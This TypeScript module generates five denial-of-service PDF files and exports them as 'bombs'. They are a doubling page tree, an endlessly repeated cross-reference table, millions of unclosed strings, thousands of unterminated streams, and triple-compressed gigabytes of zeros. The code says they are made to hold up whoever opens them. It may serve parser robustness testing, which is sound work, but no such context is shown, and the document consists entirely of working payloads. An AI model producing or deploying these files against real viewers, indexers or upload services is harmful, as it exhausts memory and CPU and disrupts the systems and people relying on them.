import { deflateSync } from 'node:zlib'

// Files made to hold up whoever opens them.

const latin1 = (text: string) => Buffer.from(text, 'latin1')
const HEAD = '%PDF-1.7\n'
const FOOT = '\nstartxref\n9\n%%EOF'

const stream = (dictionary: string, bytes: Buffer) =>
  Buffer.concat([latin1(`<<${dictionary}/Length ${bytes.length}>>stream\n`), bytes, latin1('\nendstream')])

/** Each node of the tree of pages has the next one twice: a thousand billion pages. */
function doublingTree(): Buffer {
  const DEPTH = 40
  const nodes = Array.from({ length: DEPTH }, (_, level) => {
    const child = level + 3
    const last = level === DEPTH - 1
    return `${level + 2} 0 obj\n${last ? '<</Type/Page/MediaBox[0 0 9 9]>>' : `<</Type/Pages/Count 9/Kids[${child} 0 R ${child} 0 R]>>`}\nendobj\n`
  })
  return latin1(
    `${HEAD}1 0 obj\n<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]>>>>\nendobj\n${nodes.join('')}trailer\n<</Root 1 0 R/Size 99>>${FOOT}`,
  )
}

/** A table of contents that says that it has a billion entries, again and again. */
const endlessTable = (): Buffer =>
  latin1(
    `${HEAD}1 0 obj\n<</Type/Catalog>>\nendobj\nxref\n${'0 999999999\n0000000000 65535 f \n'.repeat(200_000)}trailer\n<</Root 1 0 R/Size 999999999>>${FOOT}`,
  )

/** Text that opens and never closes. */
const openStrings = (): Buffer =>
  latin1(`${HEAD}1 0 obj\n<</Type/Catalog/A ${'('.repeat(6_000_000)}>>\nendobj\ntrailer\n<</Root 1 0 R>>${FOOT}`)

/** Each of many streams is looked for its end, to the end of the file. */
const endlessStreams = (): Buffer =>
  latin1(
    `${HEAD}1 0 obj\n<</Type/Catalog>>\nendobj\n${Array.from({ length: 200_000 }, (_, number) => `${number + 2} 0 obj\n<</Length 9>>stream\n`).join('')}trailer\n<</Root 1 0 R>>${FOOT}`,
  )

/** Eight gigabytes of nothing, packed three times over, where the file's own objects should be. */
function nestedDeflate(): Buffer {
  const thrice = deflateSync(deflateSync(deflateSync(Buffer.alloc(200_000_000))))
  const objects = Array.from({ length: 40 }, (_, place) =>
    Buffer.concat([
      latin1(`${place + 2} 0 obj\n`),
      stream('/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode/FlateDecode]', thrice),
      latin1('\nendobj\n'),
    ]),
  )
  return Buffer.concat([
    latin1(`${HEAD}1 0 obj\n<</Type/Catalog>>\nendobj\n`),
    ...objects,
    latin1(`trailer\n<</Root 1 0 R>>${FOOT}`),
  ])
}

/** The five kinds, by name. */
export const bombs: Readonly<Record<string, () => Buffer>> = {
  'a tree of pages that doubles': doublingTree,
  'a table of contents without end': endlessTable,
  'strings that never close': openStrings,
  'streams without end': endlessStreams,
  'zeros packed three times': nestedDeflate,
}
